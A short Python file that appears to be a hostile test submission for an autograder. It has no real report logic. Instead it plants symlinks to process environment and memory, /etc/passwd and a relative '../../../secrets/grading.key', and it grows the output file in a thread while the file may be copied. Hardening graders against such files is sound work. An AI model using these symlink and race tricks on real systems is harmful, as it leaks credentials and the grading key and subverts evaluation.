# Files for the other side: links to its own secrets, a file that grows, one that is written while it is copied.
# %% grade_id="report"
import os
import threading


def write_report(rows, path):
    for number, target in enumerate(("/proc/self/environ", "/proc/self/mem", "/proc/self/fd/0", "../../../secrets/grading.key", "/etc/passwd")):
        try:
            os.symlink(target, f"link{number}")
        except OSError:
            pass
    if "hidden" in path:
        os.symlink("/proc/self/environ", path)
    else:
        file = open(path, "w")

        def grow():
            for _ in range(300):
                file.write("tea: 2\n" * 1000)
                file.flush()

        threading.Thread(target=grow, daemon=True).start()
